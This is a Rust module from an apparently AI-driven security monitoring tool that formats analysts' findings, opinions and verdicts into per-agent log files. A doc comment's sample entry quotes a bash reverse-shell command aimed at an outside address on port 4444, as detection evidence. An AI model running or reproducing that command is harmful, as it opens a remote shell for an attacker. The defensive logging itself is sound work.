//! `<agent>.log`: findings of one analyst, formatted for `tail -F`.

use std::collections::HashMap;
use std::collections::hash_map::Entry;
use std::fmt::Write as _;
use std::io;
use std::path::{Path, PathBuf};

use jiff::Timestamp;

use watchtower_base::text::counted;
use watchtower_domain::agent_name::log_name;
use watchtower_domain::finding::{Evidence, Finding, printable};
use watchtower_domain::incident::{
    Change, ChangeReason, Exchange, Incident, Opinion, PanelVerdict, Status,
};

use crate::line_file::LineFile;
use crate::settings::LogSettings;

#[derive(Debug)]
pub(super) struct AgentLogs {
    folder: PathBuf,
    rotation: LogSettings,
    files: HashMap<String, LineFile>,
}

impl AgentLogs {
    /// Creates the logs of these agents, so that they can be tailed before the
    /// first finding; others are created with their first report.
    pub(super) fn open(
        folder: &Path,
        agents: &[String],
        rotation: LogSettings,
    ) -> io::Result<Self> {
        let mut logs = Self {
            folder: folder.to_owned(),
            rotation,
            files: HashMap::new(),
        };
        for agent in agents {
            logs.file(agent)?;
        }
        Ok(logs)
    }

    /// Logs a change in full; repeats only as a count, at 2, 3, 5, 10, 20, 50,
    /// 100 and so on.
    pub(super) fn finding(&mut self, finding: &Finding, change: &Change, own_count: u64) {
        if change.loud {
            let text = block(finding) + &standing(change);
            self.write(&finding.agent, &text);
        } else if is_round(own_count) && change.incident.status != Status::Closed {
            self.write(&finding.agent, &again(finding, change, own_count));
        }
    }

    /// Logs each opinion for both of its agents, the number of analysts without
    /// one for the agent that reported, and the verdict for all agents of the
    /// discussion.
    pub(super) fn exchange(&mut self, exchange: &Exchange, incident: &Incident) {
        let (silent, spoken): (Vec<_>, Vec<_>) =
            (exchange.opinions.iter()).partition(|opinion| opinion.is_silent());
        for opinion in spoken {
            let text = reply(opinion, incident);
            self.write(&opinion.agent, &text);
            if opinion.to != opinion.agent {
                self.write(&opinion.to, &text);
            }
        }
        if let Some(first) = silent.first() {
            self.write(&first.to, &nothing_added(first.at, silent.len(), incident));
        }
        let Some(verdict) = &exchange.verdict else {
            return;
        };
        let text = settled(verdict, incident);
        let spoke = incident.opinions.iter().map(|opinion| &opinion.agent);
        let mut logged: Vec<&String> = Vec::new();
        for agent in incident.agents.iter().chain(spoke) {
            if !logged.contains(&agent) {
                self.write(agent, &text);
                logged.push(agent);
            }
        }
    }

    /// Recorded before a crash, and maybe not logged then.
    pub(super) fn late(&mut self, finding: &Finding) {
        self.write(&finding.agent, &block(finding));
    }

    pub(super) fn note(&mut self, agent: &str, text: &str) {
        let line = format!(
            "{}  --        {}\n",
            second(Timestamp::now()),
            printable(text)
        );
        self.write(agent, &line);
    }

    /// Appends to a log. The database is authoritative; a failed write is
    /// reported on the server's own output and loses no finding.
    fn write(&mut self, agent: &str, text: &str) {
        let written = self
            .file(agent)
            .and_then(|file| file.append(text.as_bytes()));
        if let Err(error) = written {
            tracing::error!(agent, %error, "failed to write to the agent's log");
        }
    }

    fn file(&mut self, agent: &str) -> io::Result<&mut LineFile> {
        match self.files.entry(log_name(agent)) {
            Entry::Occupied(file) => Ok(file.into_mut()),
            Entry::Vacant(place) => {
                let path = self.folder.join(place.key());
                Ok(place.insert(LineFile::open(path, self.rotation)?))
            }
        }
    }
}

/// ```text
/// 2026-11-23T09:14:05Z  CRITICAL  Reverse shell in a terminal  (team, 12.3 s)
///     > bash -i >& /dev/tcp/203.0.113.45/4444 0>&1
///     A shell was connected to an outside address.
///     do: Isolate the host and keep its memory.
///     incident 019ab3…
/// ```
fn block(finding: &Finding) -> String {
    let mut text = String::new();
    let severity = finding.severity.as_str().to_uppercase();
    // Writing to a String does not fail.
    let _ = writeln!(
        text,
        "{}  {severity:<8}  {}  ({}, {}.{} s)",
        second(finding.observed_at),
        printable(&finding.title),
        finding.stream,
        finding.frame.pts_ms.div_euclid(1000),
        finding.frame.pts_ms.rem_euclid(1000) / 100,
    );
    quotes(&mut text, &finding.evidence);
    if !finding.detail.is_empty() {
        let _ = writeln!(text, "    {}", printable(&finding.detail));
    }
    if !finding.recommended_action.is_empty() {
        let _ = writeln!(
            text,
            "    action: {}",
            printable(&finding.recommended_action)
        );
    }
    text
}

/// Reason of the line, and its count.
fn standing(change: &Change) -> String {
    let incident = &change.incident;
    let why = match change.change {
        ChangeReason::Opened => return format!("    incident {}\n", incident.id),
        ChangeReason::Reopened => "reopened",
        ChangeReason::Returned => "recurred after a quiet period",
        ChangeReason::SeverityRose => "severity raised",
        ChangeReason::NewAgent => "already reported by another analyst",
        ChangeReason::NewEvidence => "new evidence",
        ChangeReason::Status
        | ChangeReason::Opinions
        | ChangeReason::Verdict
        | ChangeReason::Note
        | ChangeReason::Owner
        | ChangeReason::Snooze
        | ChangeReason::Repeated => "ongoing",
    };
    format!(
        "    incident {} {why}: {} by {} since {}\n",
        incident.id,
        counted(incident.count, "finding"),
        incident.agents.join(", "),
        second(incident.first_seen),
    )
}

/// ```text
/// 2026-11-23T09:14:09Z  --        DevOps -> SecOps: disputes, low (0.80): It is the restore drill.
///     > restore-drill.service: Succeeded
///     incident 019ab3… Reverse shell in a terminal
/// ```
fn reply(opinion: &Opinion, incident: &Incident) -> String {
    let weight = match (opinion.severity, opinion.confidence) {
        (Some(severity), Some(confidence)) => format!(", {severity} ({confidence:.2})"),
        _ => String::new(),
    };
    let mut text = format!(
        "{}  --        {} -> {}: {}{weight}: {}\n",
        second(opinion.at),
        opinion.agent,
        opinion.to,
        opinion.stance,
        printable(&opinion.text),
    );
    quotes(&mut text, &opinion.evidence);
    text + &about(incident)
}

fn nothing_added(at: Timestamp, analysts: usize, incident: &Incident) -> String {
    let at = second(at);
    let who = counted(analysts, "analyst");
    format!("{at}  --        {who} had nothing to add\n") + &about(incident)
}

fn settled(verdict: &PanelVerdict, incident: &Incident) -> String {
    let dissent = match verdict.dissent.as_slice() {
        [] => String::new(),
        dissent => format!("; dissent: {}", dissent.join(", ")),
    };
    let text = format!(
        "{}  --        {}: {} ({:.2}): {}{dissent}\n",
        second(verdict.at),
        verdict.by,
        verdict.severity,
        verdict.confidence,
        printable(&verdict.text),
    );
    text + &about(incident)
}

fn about(incident: &Incident) -> String {
    format!(
        "    incident {} {}\n",
        incident.id,
        printable(&incident.title)
    )
}

fn quotes(text: &mut String, evidence: &[Evidence]) {
    for piece in evidence.iter().filter(|piece| !piece.quote.is_empty()) {
        let mark = if piece.grounded == Some(false) {
            "  [not found on screen]"
        } else {
            ""
        };
        // Writing to a String does not fail.
        let _ = writeln!(text, "    > {}{mark}", printable(&piece.quote));
    }
}

fn again(finding: &Finding, change: &Change, own_count: u64) -> String {
    let incident = &change.incident;
    format!(
        "{}  repeat    {}  (#{own_count}; {} by all analysts since {}; incident {})\n",
        second(finding.observed_at),
        printable(&incident.title),
        counted(incident.count, "finding"),
        second(incident.first_seen),
        incident.id,
    )
}

/// True for 2, 3, 5, 10, 20, 50, 100, ...: the first repeats may add details,
/// later ones only the count.
fn is_round(count: u64) -> bool {
    let mut head = count;
    while head >= 10 && head.is_multiple_of(10) {
        head /= 10;
    }
    count == 3 || count >= 2 && matches!(head, 1 | 2 | 5)
}

/// Time as RFC 3339 in whole seconds, UTC.
fn second(at: Timestamp) -> String {
    at.strftime("%Y-%m-%dT%H:%M:%SZ").to_string()
}
